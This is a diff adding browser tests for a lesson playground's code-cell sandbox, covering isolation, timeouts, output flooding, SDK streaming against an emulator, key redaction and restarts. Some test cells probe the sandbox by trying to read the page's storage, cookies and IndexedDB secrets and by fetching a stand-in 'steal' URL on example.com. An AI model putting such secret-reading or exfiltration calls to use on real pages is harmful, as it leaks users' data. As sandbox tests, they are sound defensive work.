@@ -1,0 +1,346 @@
+/**
+ * The cell sandbox in the production build, in Chromium. Cells are run through the real UI once (the
+ * "Run cell" button), then through `window.__tpRuntimeForTests`, which `src/runner/lesson-runtime.ts`
+ * exposes only when the page URL has `?test-hooks`: that lets these tests run arbitrary cells without
+ * typing into the editor.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Browser, Page } from 'playwright-core';
+import type { RunEvent, RunRequest, RunResult } from '../../src/runner/protocol';
+import { COURSE_MODELS } from '../../src/lessons/course-models';
+import { launchChromium, siteUrl } from './browser';
+
+interface CellOutcome {
+  result: RunResult;
+  events: RunEvent[];
+  /** ms from `run()` to the first console event, if any. */
+  firstOutputMs?: number;
+  /** ms from `run()` to its result. */
+  totalMs: number;
+}
+
+let browser: Browser;
+let page: Page;
+
+/** Runs cells one after the other in one fresh lesson runtime inside the page. */
+async function runCells(requests: RunRequest[]): Promise<CellOutcome[]> {
+  return page.evaluate(async (cells) => {
+    type Hooks = {
+      createLessonRuntime: typeof import('../../src/runner/lesson-runtime').createLessonRuntime;
+      loadApiRouter: () => Promise<typeof import('../../src/runner/api-router')>;
+    };
+    const hooks = (window as unknown as { __tpRuntimeForTests: Hooks }).__tpRuntimeForTests;
+    const { createApiRouter } = await hooks.loadApiRouter();
+    const runtime = hooks.createLessonRuntime({ lessonSlug: 'sandbox-test', api: createApiRouter({ pacing: 'instant' }) });
+    const outcomes = [];
+    for (const cell of cells) {
+      const events: RunEvent[] = [];
+      const started = performance.now();
+      let firstOutputMs: number | undefined;
+      const result = await runtime.run(cell, (event) => {
+        if (event.type === 'console' && firstOutputMs === undefined) firstOutputMs = performance.now() - started;
+        events.push(event);
+      });
+      outcomes.push({ result, events, firstOutputMs, totalMs: performance.now() - started });
+    }
+    runtime.dispose();
+    return outcomes;
+  }, requests);
+}
+
+/** The text of every console line of a run, one string per line. */
+function consoleText(outcome: CellOutcome): string[] {
+  return outcome.events.flatMap((event) =>
+    event.type === 'console' ? [event.args.map((arg) => ('value' in arg ? String(arg.value) : arg.kind)).join(' ')] : [],
+  );
+}
+
+beforeAll(async () => {
+  browser = await launchChromium();
+  page = await browser.newPage();
+  const origin = new URL(siteUrl()).origin;
+  await page.goto(`${siteUrl()}?test-hooks&pacing=instant#/04-streaming`);
+  // Secrets of the page's origin that a cell must not be able to read.
+  await page.evaluate(async () => {
+    localStorage.setItem('tp-secret', 'page-local-secret');
+    sessionStorage.setItem('tp-secret', 'page-session-secret');
+    document.cookie = 'tpsecret=page-cookie-secret';
+    await new Promise<void>((resolve, reject) => {
+      const open = indexedDB.open('tp-secret-db');
+      open.onupgradeneeded = () => open.result.createObjectStore('s');
+      open.onsuccess = () => {
+        open.result.close();
+        resolve();
+      };
+      open.onerror = () => reject(open.error);
+    });
+  });
+  expect(origin).toMatch(/^http:\/\/127\.0\.0\.1:/);
+});
+
+afterAll(async () => {
+  await browser?.close();
+});
+
+describe('sandbox (production build)', () => {
+  it('runs lesson cells through the UI: the raw streaming request reaches the emulator', async () => {
+    const runButtons = page.getByRole('button', { name: 'Run cell' });
+    await runButtons.first().waitFor({ timeout: 30_000 });
+    await runButtons.nth(0).click(); // setup cell (imports, helpers)
+    await runButtons.nth(1).click(); // raw-stream: prints status and content type, then the SSE text
+    await page.getByText('text/event-stream').first().waitFor({ timeout: 30_000 });
+    await page.getByText('event: message_stop').first().waitFor({ timeout: 30_000 });
+    await page.waitForFunction(() => '__tpRuntimeForTests' in window);
+  });
+
+  it('a cell cannot read the page’s localStorage, sessionStorage, cookies or IndexedDB, nor use the network directly', async () => {
+    const [outcome] = await runCells([
+      {
+        cellId: 't/isolation',
+        code: `
+const report: Record<string, string> = {};
+const g = globalThis as any;
+report.origin = String(self.location.origin);
+report.localStorage = typeof g.localStorage === 'undefined' ? 'unavailable' : String(g.localStorage.getItem('tp-secret'));
+report.sessionStorage = typeof g.sessionStorage === 'undefined' ? 'unavailable' : String(g.sessionStorage.getItem('tp-secret'));
+try { report.cookie = String(document.cookie); } catch { report.cookie = 'unavailable'; }
+try {
+  report.indexedDB = await new Promise<string>((resolve) => {
+    const open = indexedDB.open('tp-secret-db');
+    open.onsuccess = () => resolve('opened: ' + [...open.result.objectStoreNames].join(','));
+    open.onerror = () => resolve('unavailable');
+  });
+} catch { report.indexedDB = 'unavailable'; }
+report.xhr = await new Promise<string>((resolve) => {
+  const xhr = new XMLHttpRequest();
+  xhr.onload = () => resolve('loaded ' + xhr.status);
+  xhr.onerror = () => resolve('failed');
+  try { xhr.open('GET', ${JSON.stringify(siteUrl())}); xhr.send(); } catch { resolve('failed'); }
+});
+console.log(JSON.stringify(report));`,
+      },
+    ]);
+    expect(outcome?.result.status).toBe('ok');
+    const report = JSON.parse(consoleText(outcome!)[0] ?? '{}') as Record<string, string>;
+    expect(report).toEqual({
+      origin: 'null',
+      localStorage: 'unavailable',
+      sessionStorage: 'unavailable',
+      cookie: 'unavailable',
+      indexedDB: 'unavailable',
+      xhr: 'failed',
+    });
+  });
+
+  // Timing on a shared 2-core machine: a retry absorbs a scheduler stall, not a slow implementation.
+  it('stops `while (true) {}` at once, times it out, keeps the page responsive, and the next run works', { retry: 2 }, async () => {
+    const stopped = await page.evaluate(async () => {
+      type Hooks = {
+        createLessonRuntime: typeof import('../../src/runner/lesson-runtime').createLessonRuntime;
+        loadApiRouter: () => Promise<typeof import('../../src/runner/api-router')>;
+      };
+      const hooks = (window as unknown as { __tpRuntimeForTests: Hooks }).__tpRuntimeForTests;
+      const { createApiRouter } = await hooks.loadApiRouter();
+      const runtime = hooks.createLessonRuntime({ lessonSlug: 'loop', api: createApiRouter({ pacing: 'instant' }) });
+      await runtime.run({ cellId: 'warm', code: 'const before = 1;' }, () => {});
+      let ticks = 0;
+      const ticker = setInterval(() => ticks++, 10);
+      const running = runtime.run({ cellId: 'loop', code: 'while (true) {}' }, () => {});
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      let settledAt = 0;
+      void running.then(() => (settledAt = performance.now()));
+      const stopAt = performance.now();
+      runtime.stop();
+      const result = await running;
+      const stopMs = settledAt - stopAt;
+      clearInterval(ticker);
+      const after: RunEvent[] = [];
+      const next = await runtime.run({ cellId: 'next', code: 'console.log(typeof before, "alive");' }, (e) => after.push(e));
+      const timedOut = await runtime.run({ cellId: 'loop2', code: 'while (true) {}', timeoutMs: 400 }, () => {});
+      runtime.dispose();
+      return { result, stopMs, ticks, next, after, timedOut };
+    });
+    expect(stopped.result).toMatchObject({ status: 'stopped', scopeLost: true });
+    expect(stopped.stopMs).toBeLessThan(100);
+    expect(stopped.ticks).toBeGreaterThan(10); // the page kept running timers during the loop
+    expect(stopped.next.status).toBe('ok');
+    // the scope was lost with the worker: `before` is gone
+    expect(stopped.after).toContainEqual({ type: 'console', level: 'log', args: [{ kind: 'string', value: 'undefined' }, { kind: 'string', value: 'alive' }] });
+    expect(stopped.timedOut).toMatchObject({ status: 'timeout', scopeLost: true, error: { name: 'TimeoutError' } });
+    expect(stopped.timedOut.durationMs).toBeLessThan(400 + 100);
+    console.info(`[sandbox] stop latency ${stopped.stopMs.toFixed(1)} ms; timeout run lasted ${stopped.timedOut.durationMs} ms`);
+  });
+
+  it('refuses hosts other than api.anthropic.com, naming the host', async () => {
+    const [outcome] = await runCells([{ cellId: 't/host', code: "await fetch('https://example.com/steal?data=1');" }]);
+    expect(outcome?.result.status).toBe('error');
+    expect(outcome?.result.error).toMatchObject({
+      name: 'TypeError',
+      message: 'The playground only lets cells call https://api.anthropic.com; blocked: https://example.com/',
+      line: 1,
+    });
+  });
+
+  it('imports the official SDK on demand and streams from the emulator; the exchange is recorded with the key redacted', async () => {
+    const [outcome] = await runCells([
+      {
+        cellId: 't/sdk',
+        code: `
+import Anthropic from '@anthropic-ai/sdk';
+const client = new Anthropic({ dangerouslyAllowBrowser: true });
+const stream = client.messages.stream({
+  model: ${JSON.stringify(COURSE_MODELS.default)},
+  max_tokens: 1024,
+  messages: [{ role: 'user', content: 'Say hello' }],
+});
+let deltas = 0;
+stream.on('text', () => { deltas++; });
+const message = await stream.finalMessage();
+console.log('deltas', deltas > 1, message.type, message.content[0]?.type, client instanceof Anthropic);`,
+      },
+    ]);
+    expect(outcome?.result.status).toBe('ok');
+    expect(consoleText(outcome!)).toContain('deltas true message text true');
+    const exchanges = outcome!.events.flatMap((e) => (e.type === 'exchange' ? [e.exchange] : []));
+    const last = exchanges.at(-1);
+    expect(last?.request.url).toBe('https://api.anthropic.com/v1/messages');
+    expect(last?.request.headers['anthropic-dangerous-direct-browser-access']).toBe('true');
+    const credential = last?.request.headers['x-api-key'] ?? last?.request.headers.authorization ?? '';
+    expect(credential).toMatch(/sk-ant-…0000$/);
+    expect(JSON.stringify(exchanges)).not.toContain('sk-ant-playground-0000000000000000');
+    expect(last?.response).toMatchObject({ status: 200, streamed: true });
+    expect(last?.response?.body).toContain('event: message_stop');
+  });
+
+  it('shares a notebook scope between cells and maps errors to the TypeScript line', async () => {
+    const outcomes = await runCells([
+      { cellId: 't/a', code: 'const greeting: string = "hi";\nfunction shout(s: string): string { return s.toUpperCase(); }' },
+      { cellId: 't/b', code: 'console.log(shout(greeting));' },
+      { cellId: 't/a', code: 'const greeting = "again";' },
+      { cellId: 't/c', code: 'console.log(shout(greeting));\n\ninterface X { a: number }\nundefinedName.call();' },
+    ]);
+    expect(outcomes.map((o) => o.result.executionCount)).toEqual([1, 2, 3, 4]);
+    expect(consoleText(outcomes[1]!)).toEqual(['HI']);
+    expect(outcomes[3]?.result.error).toMatchObject({ name: 'ReferenceError', line: 4 });
+    expect(consoleText(outcomes[3]!)).toEqual(['AGAIN']);
+  });
+
+  it('reports errors thrown after the cell settled, and unhandled rejections, to that cell', async () => {
+    const late = await page.evaluate(async () => {
+      type Hooks = {
+        createLessonRuntime: typeof import('../../src/runner/lesson-runtime').createLessonRuntime;
+        loadApiRouter: () => Promise<typeof import('../../src/runner/api-router')>;
+      };
+      const hooks = (window as unknown as { __tpRuntimeForTests: Hooks }).__tpRuntimeForTests;
+      const { createApiRouter } = await hooks.loadApiRouter();
+      const runtime = hooks.createLessonRuntime({ lessonSlug: 'late', api: createApiRouter({ pacing: 'instant' }) });
+      const events: RunEvent[] = [];
+      const result = await runtime.run(
+        { cellId: 'late', code: 'setTimeout(() => { throw new RangeError("later"); }, 20);\nPromise.reject(new Error("nobody awaited me"));' },
+        (e) => events.push(e),
+      );
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      runtime.dispose();
+      return { result, events };
+    });
+    expect(late.result.status).toBe('ok');
+    const errors = late.events.flatMap((e) => (e.type === 'error' ? [`${e.error.name}: ${e.error.message}`] : []));
+    expect(errors.sort()).toEqual(['Error: nobody awaited me', 'RangeError: later']);
+  });
+
+  it('an abort in the cell cancels the request on the page; the exchange says so', async () => {
+    const [outcome] = await runCells([
+      {
+        cellId: 't/abort',
+        code: `
+import Anthropic from '@anthropic-ai/sdk';
+await playground.emulator.inject({ kind: 'latency', ms: 5000 });
+const controller = new AbortController();
+const client = new Anthropic({ dangerouslyAllowBrowser: true, maxRetries: 0 });
+const pending = client.messages.create(
+  { model: ${JSON.stringify(COURSE_MODELS.default)}, max_tokens: 16, messages: [{ role: 'user', content: 'hi' }] },
+  { signal: controller.signal },
+);
+setTimeout(() => controller.abort(), 100);
+try { await pending; } catch (error) { console.log('caught', (error as Error).name); }`,
+      },
+    ]);
+    expect(outcome?.result.status).toBe('ok');
+    expect(outcome!.totalMs).toBeLessThan(4000);
+    expect(consoleText(outcome!)).toEqual(['caught APIUserAbortError']);
+    const exchanges = outcome!.events.flatMap((e) => (e.type === 'exchange' ? [e.exchange] : []));
+    expect(exchanges.at(-1)?.error).toMatch(/^AbortError/);
+  });
+
+  it('runs exercise checks in the cell’s scope and reports each with a diff', async () => {
+    const [outcome, failing] = await runCells([
+      {
+        cellId: 't/exercise',
+        code: 'function add(a: number, b: number): number { return a + b + (a === 2 ? 1 : 0); }\nawait fetch("https://api.anthropic.com/v1/models", { headers: { "x-api-key": process.env.ANTHROPIC_API_KEY!, "anthropic-version": "2023-06-01", "anthropic-dangerous-direct-browser-access": "true" } });',
+        checks: "check('adds small numbers', () => expect(add(1, 1)).toBe(2));\ncheck('adds 2 + 2', () => expect({ sum: add(2, 2) }).toEqual({ sum: 4 }));\ncheck('made one request', () => expect(exchanges).toHaveLength(1));",
+      },
+      { cellId: 't/exercise', code: 'throw new Error("not yet");', checks: "check('one', () => {});\ncheck('two', () => {});" },
+    ]);
+    expect(outcome?.result.checks).toEqual([
+      { name: 'adds small numbers', passed: true },
+      {
+        name: 'adds 2 + 2',
+        passed: false,
+        message: 'expected { "sum": 5 } to equal { "sum": 4 }',
+        diff: { actual: '{\n  "sum": 5\n}', expected: '{\n  "sum": 4\n}' },
+      },
+      { name: 'made one request', passed: true },
+    ]);
+    expect(outcome?.events.filter((e) => e.type === 'check')).toHaveLength(3);
+    expect(failing?.result.status).toBe('error');
+    expect(failing?.result.checks?.map((c) => [c.name, c.passed])).toEqual([
+      ['one', false],
+      ['two', false],
+    ]);
+    expect(failing?.result.checks?.[0]?.message).toContain('not yet');
+  });
+
+  it('caps an output flood and stays responsive; reports warm-run latency', { retry: 2 }, async () => {
+    const outcomes = await runCells([
+      { cellId: 't/warm1', code: 'console.log(1);' },
+      { cellId: 't/warm2', code: 'console.log(2);' },
+      { cellId: 't/flood', code: 'for (let i = 0; i < 100_000; i++) console.log("line", i);' },
+    ]);
+    const flood = outcomes[2]!;
+    expect(flood.result.status).toBe('ok');
+    expect(consoleText(flood)).toHaveLength(5000);
+    expect(flood.events.filter((e) => e.type === 'truncated')).toEqual([{ type: 'truncated', droppedLines: 95_000 }]);
+    expect(flood.totalMs).toBeLessThan(10_000);
+    const warm = outcomes[1]!;
+    expect(warm.firstOutputMs).toBeLessThan(100);
+    console.info(`[sandbox] warm run: first output after ${warm.firstOutputMs?.toFixed(1)} ms; flood of 100,000 lines settled in ${flood.totalMs.toFixed(0)} ms`);
+  });
+
+  it('restarts with an empty scope; reports restart time with the warm spare and with a fresh worker', async () => {
+    const timings = await page.evaluate(async () => {
+      type Hooks = {
+        createLessonRuntime: typeof import('../../src/runner/lesson-runtime').createLessonRuntime;
+        loadApiRouter: () => Promise<typeof import('../../src/runner/api-router')>;
+      };
+      const hooks = (window as unknown as { __tpRuntimeForTests: Hooks }).__tpRuntimeForTests;
+      const { createApiRouter } = await hooks.loadApiRouter();
+      const runtime = hooks.createLessonRuntime({ lessonSlug: 'restart', api: createApiRouter({ pacing: 'instant' }) });
+      await runtime.run({ cellId: 'a', code: 'const kept = 1;' }, () => {});
+      await new Promise((resolve) => setTimeout(resolve, 300)); // let the frame refill its spare
+      const started = performance.now();
+      await runtime.restart();
+      const restartMs = performance.now() - started;
+      // Right away again: the frame has no spare yet, so this one starts a fresh worker.
+      const freshStarted = performance.now();
+      await runtime.restart();
+      const freshMs = performance.now() - freshStarted;
+      const events: RunEvent[] = [];
+      const result = await runtime.run({ cellId: 'b', code: 'console.log(typeof kept);' }, (e) => events.push(e));
+      runtime.dispose();
+      return { restartMs, freshMs, result, events };
+    });
+    expect(timings.result.executionCount).toBe(1);
+    expect(timings.events).toContainEqual({ type: 'console', level: 'log', args: [{ kind: 'string', value: 'undefined' }] });
+    console.info(`[sandbox] restart with the warm spare: ${timings.restartMs.toFixed(1)} ms; with a fresh worker: ${timings.freshMs.toFixed(1)} ms`);
+  });
+});
